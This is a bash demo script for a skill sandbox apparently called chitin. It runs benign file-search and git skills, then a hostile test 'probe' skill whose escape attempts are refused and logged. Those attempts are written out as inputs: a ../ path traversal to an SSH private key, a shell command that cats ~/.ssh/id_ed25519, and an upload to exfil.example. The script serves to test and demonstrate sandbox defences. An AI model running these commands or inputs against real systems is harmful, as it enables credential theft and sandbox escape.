#!/usr/bin/env bash
# The chitin demo: audit skills without running them, run them under exactly their
# grants, and watch an escape being refused and recorded. Called by `make demo` after
# the skills are built.
set -euo pipefail

root="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
skills="${CHITIN_SKILLS_DIR:-$root/target/skills}"
chitin="${CARGO_TARGET_DIR:-$root/target}/debug/chitin"
[ -x "$chitin" ] || cargo build -q -p chitin-host --bin chitin

demo=$(mktemp -d)
trap 'rm -rf "$demo"' EXIT
export CHITIN_HOME="$demo/chitin-home"

step() { printf '\n\033[1m==> %s\033[0m\n$ %s\n' "$1" "${*:2}"; }
run() { step "$1" "${*:2}"; "${@:2}" || echo "(exit code $?)"; }

# A project to work on, and something worth stealing outside it.
mkdir -p "$demo/project/src" "$demo/home/.ssh" "$demo/ws/ro" "$demo/ws/rw"
printf 'fn main() {\n    // TODO: say hello\n    println!("hi");\n}\n' > "$demo/project/src/main.rs"
printf '# Notes\nTODO: write the README\n' > "$demo/project/NOTES.md"
echo "-----BEGIN OPENSSH PRIVATE KEY----- (demo key)" > "$demo/home/.ssh/id_ed25519"
git -C "$demo/project" init -q && git -C "$demo/project" add -A &&
  git -C "$demo/project" -c user.name=demo -c user.email=demo@example.com commit -qm "First commit"

run "What does file-search ask for? (nothing runs)" \
  "$chitin" skill audit "$skills/file-search.wasm"

run "Its tools (describe() runs with no grants at all)" \
  "$chitin" skill tools "$skills/file-search.wasm"

run "Search the project for TODOs: the skill sees only the project, read-only" \
  "$chitin" run "$skills/file-search.wasm" search --workspace "$demo/project" --yes \
  --input '{"pattern": "TODO"}'

run "git-reader runs git through the host: declared arguments only, no shell" \
  "$chitin" run "$skills/git-reader.wasm" log --workspace "$demo/project" --yes --input '{}'

# The probe is the test suite's hostile skill; its workspace is $demo/ws (ro/ and rw/).
run "An escape: the probe skill tries to read ~/.ssh through ../" \
  "$chitin" run "$skills/probe.wasm" read_file --workspace "$demo/ws" --yes \
  --input "{\"path\": \"/workspace/ro/../../home/.ssh/id_ed25519\"}"

run "The same escape from the probe written in Python (and JavaScript, and C): same refusal" \
  "$chitin" run "$skills/probe-py.wasm" read_file --workspace "$demo/ws" --yes \
  --input "{\"path\": \"/workspace/ro/../../home/.ssh/id_ed25519\"}"

run "Another: it asks the host to run a shell" \
  "$chitin" run "$skills/probe.wasm" exec --workspace "$demo/ws" --yes \
  --input '{"program": "sh", "args": ["-c", "cat ~/.ssh/id_ed25519"]}'

run "And sends data to a host it did not declare" \
  "$chitin" run "$skills/probe.wasm" http --workspace "$demo/ws" --yes \
  --input '{"url": "https://exfil.example/upload"}'

run "A runaway loop is stopped at the declared time limit; the host goes on" \
  "$chitin" run "$skills/probe.wasm" spin --workspace "$demo/ws" --yes --input '{}'

run "Every refusal and stop is in the audit log" "$chitin" log
